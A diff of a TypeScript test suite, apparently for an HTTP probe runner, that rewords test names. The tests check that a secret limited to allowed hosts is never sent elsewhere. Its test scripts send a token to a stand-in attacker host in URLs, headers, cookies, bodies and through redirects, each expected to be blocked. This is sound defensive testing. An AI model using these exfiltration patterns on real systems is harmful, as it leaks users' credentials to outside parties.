@@ -13,7 +13,7 @@ import { type HttpTarget, readAll, startHttpTarget } from '#test/support/targets
 import { createTransport } from '#worker/http/client.ts'
 import { type ExecuteOptions, executeRun } from '#worker/probe/execute.ts'
 
-// A secret that names its hosts is sent to no other one, whatever way a run finds to take it there.
+// A secret with allowed hosts is never sent to another host, whatever way a run tries.
 
 const SECRET = 'Xk7-q9/Zw+4v&T1=mB é'
 const HOST = 'qz7xk94mt1bc'
@@ -103,7 +103,7 @@ test.each<[string, () => string]>([
   ['in the URL', () => `get("${evil()}/$p.token").wait(0)`],
   ['in the query, coded', () => `get("${evil()}/?a=\${$p.token}").wait(0)`],
   ['in a header', ask('{ Authorization: "Bearer $p.token" }')],
-  ['joined with more', ask('{ "X-A": "x" + $p.token + "y" }')],
+  ['concatenated', ask('{ "X-A": "x" + $p.token + "y" }')],
   ['in a cookie', () => `get("${evil()}/", { cookies: { a: $p.token } }).wait(0)`],
   ['in a raw body', () => `post("${evil()}/", { body: "a $p.token b" }).wait(0)`],
   ['in JSON', () => `post("${evil()}/", { body: json({ a: [{ b: $p.token }] }) }).wait(0)`],
@@ -123,8 +123,8 @@ test.each<[string, () => string]>([
     () => `post("${api()}/?status=307&to=${encodeURIComponent(`${evil()}/`)}", {
       body: json({ a: $p.token }), cookieJar: "named:a", redirects: { resendBody: true } }).wait(0)`,
   ],
-  ['too short to be looked for', ask('{ "X-A": $p.short }')],
-  ['calculated with', () => `post("${evil()}/", { body: json({ a: $p.pin * 2 }) }).wait(0)`],
+  ['too short to be searched for', ask('{ "X-A": $p.short }')],
+  ['in a computed number', () => `post("${evil()}/", { body: json({ a: $p.pin * 2 }) }).wait(0)`],
 ])('a secret is not sent to another host: %s', async (_, script) => {
   const { calls, error, status, finished } = await perform(script())
   expect(error).toMatch(
@@ -135,7 +135,7 @@ test.each<[string, () => string]>([
   expect(JSON.stringify(finished)).not.toMatch(/Xk7-q9|qz7xk94mt1bc/i)
 })
 
-test('a secret goes to its own hosts, one without hosts goes anywhere, and others are not held up', async () => {
+test('a secret is sent to its allowed hosts, and a secret without allowed hosts to any host', async () => {
   const deep = `http://a.deep.example.com:${other.port}`
   for (const script of [
     `post("${api()}/$p.token", { headers: { Authorization: "Bearer $p.token" }, body: json({ a: $p.token }) }).expect(status: 200)`,
@@ -148,7 +148,7 @@ test('a secret goes to its own hosts, one without hosts goes anywhere, and other
   expect(sent).toHaveLength(3)
 })
 
-test('what follows the refused call is not performed', async () => {
+test('calls after the refused call are skipped', async () => {
   const { calls } = await perform(`get("${evil()}/$p.token").wait(0)\nget("${evil()}/").wait(0)`)
   expect(calls.map((call) => call.outcome)).toEqual(['failure', 'skipped'])
   expect(sent).toEqual([])
